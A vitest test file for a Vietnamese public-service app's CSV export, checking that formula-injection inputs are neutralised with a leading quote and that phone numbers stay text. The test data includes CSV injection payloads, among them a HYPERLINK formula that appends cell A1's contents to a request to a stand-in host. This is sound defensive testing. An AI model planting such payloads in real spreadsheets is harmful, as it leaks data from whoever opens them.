import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvField, csvLine, keepDigits, toCsv } from '../../src/domain/csv.js';
import { createFileProvider } from '../../src/notify/providers/file.js';

/** Formula injection (issue 13 point 12): every CSV gov-desk writes goes through src/domain/csv.ts. */
describe('CSV formula injection (OWASP)', () => {
  it('a text cell starting with = + - @ tab or CR is prefixed with a single quote and quoted', () => {
    expect(csvField('=HYPERLINK("http://x.example/?"&A1,"Bấm")')).toBe('"\'=HYPERLINK(""http://x.example/?""&A1,""Bấm"")"');
    expect(csvField('+84 912')).toBe('"\'+84 912"');
    expect(csvField('-2+3')).toBe('"\'-2+3"');
    expect(csvField('@SUM(A1:A9)')).toBe('"\'@SUM(A1:A9)"');
    expect(csvField('\t=1+1')).toBe('"\'\t=1+1"');
    expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
    expect(csvField('Nguyễn = Văn')).toBe('Nguyễn = Văn');
    expect(csvField(-3)).toBe('-3');
  });

  it('digits with a leading zero stay text in Excel; anything else is not given that treatment', () => {
    expect(csvField(keepDigits('0912345678'))).toBe('="0912345678"');
    expect(csvField(keepDigits('=1+1'))).toBe('"\'=1+1"');
    expect(csvLine(['a', 1, null])).toBe('a,1,\r\n');
    expect(toCsv(['h'], [['@x']], { bom: true })).toBe('\uFEFFh\r\n"\'@x"\r\n');
  });

  it('the file SMS provider neutralises the text and keeps the phone as text', async () => {
    const home = mkdtempSync(path.join(tmpdir(), 'gov-desk-csv-'));
    const p = createFileProvider({ home, sms: { file: { dir: null } } } as never, () => new Date('2026-03-02T02:00:00Z'));
    await p.send({ to: '0912345678', text: '=HYPERLINK("http://x.example","Bấm vào đây")', unicode: true, requestId: 'gd01', dossier: '000.00.00.H99-260302-0001', segments: 1 });
    const text = readFileSync(path.join(home, 'notify', 'outgoing', 'sms-2026-03-02.csv'), 'utf8');
    expect(text.split('\r\n')[1]).toBe('gd01,000.00.00.H99-260302-0001,="0912345678",1,"\'=HYPERLINK(""http://x.example"",""Bấm vào đây"")",2026-03-02T09:00:00+07:00');
    expect(await p.alreadySent!({ requestId: 'gd01' } as never)).toBe(true);
  });
});
